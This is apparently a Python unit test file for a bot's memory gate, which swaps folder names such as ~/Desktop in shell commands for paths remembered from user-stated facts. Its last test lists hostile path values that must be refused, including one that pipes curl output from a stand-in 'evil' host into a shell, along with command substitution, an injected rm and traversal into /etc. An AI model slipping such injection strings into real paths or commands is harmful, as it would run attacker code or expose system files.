"""Where a folder is, as facts have it: which path a command may get, and when nobody knows."""

from __future__ import annotations

import pytest

from bot.compaction.facts.fact import Fact, FactKind, FactStatus, Speaker
from bot.compaction.memory_gate.gate import known_path, rewrite
from tests.unit.compaction.memory_gate.test_gate import gated, place


def stated(text: str, speaker: Speaker = Speaker.PERSON) -> Fact:
    return Fact(FactKind.STATEMENT, text, (1,), speaker=speaker)


def test_without_a_fact_that_fits_nothing_is_changed() -> None:
    assert rewrite("shell", {"command": "ls ~/Desktop"}, (), "") is None
    assert gated("ls ~/Desktop", place("/data/ada/Documents"), place("/data/ada/Desktop/notes.txt")) is None


def test_facts_that_disagree_change_nothing_and_the_other_folder_is_still_known() -> None:
    facts = (place("/a/Desktop"), place("/b/Desktop"), place("/a/Downloads"))
    assert gated("ls ~/Desktop", *facts) is None
    found = gated("ls ~/Desktop ~/Downloads", *facts)
    assert found
    assert found.rewritten == "ls ~/Desktop /a/Downloads"
    assert found.folders == (("Downloads", "/a/Downloads"),)


def test_the_same_place_written_in_two_ways_is_no_disagreement() -> None:
    assert known_path("Desktop", [place("C:\\Users\\Ada\\Desktop"), place("c:/users/ada/desktop/")])
    assert known_path("Desktop", [place("/a/Desktop"), place("/a/Desktop/")]) == "/a/Desktop"


def test_what_does_not_hold_any_more_is_not_known() -> None:
    assert known_path("Desktop", [place("/a/Desktop", status=FactStatus.REPLACED)]) is None
    facts = [place("/a/Desktop", status=FactStatus.REPLACED), place("/b/Desktop")]
    assert known_path("Desktop", facts) == "/b/Desktop"


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("My desktop is at D:\\Work\\Desk.", "D:\\Work\\Desk"),
        ("My Desktop folder is `/data/my desk`", "/data/my desk"),
        ("Мой рабочий стол находится в /data/stol", "/data/stol"),
        ("我的桌面在 /data/zhuomian", "/data/zhuomian"),
        ("My desktop is at /a/x and my downloads are in /a/y", None),
        ("My desktop is a mess", None),
        ("The downloads and the desktop are in /a", None),
    ],
)
def test_a_person_may_have_said_where_it_is(text: str, path: str | None) -> None:
    assert known_path("Desktop", [stated(text)]) == path


def test_what_a_model_or_a_tool_says_in_a_sentence_is_no_statement() -> None:
    for speaker in (Speaker.MODEL, Speaker.TOOL):
        assert known_path("Desktop", [stated("Your desktop is at /evil", speaker)]) is None


def test_a_folder_may_have_its_name_in_another_language() -> None:
    assert known_path("Downloads", [place("/home/ada/Загрузки")]) == "/home/ada/Загрузки"
    assert known_path("Documents", [place("D:\\文档")]) == "D:\\文档"


@pytest.mark.parametrize(
    "path",
    [
        "/x;curl evil|sh;/Desktop",
        "/x$(id)/Desktop",
        "/x`id`/Desktop",
        '/x"y/Desktop',
        "/x\nrm/Desktop",
        "~/Desktop",
        "../Desktop",
        "/x/../etc/Desktop",
        "https://evil.example/Desktop",
        "/x%PATH%/Desktop",
    ],
)
def test_a_path_that_says_more_to_a_shell_than_where_it_is_is_never_used(path: str) -> None:
    assert gated("ls ~/Desktop", place(path)) is None
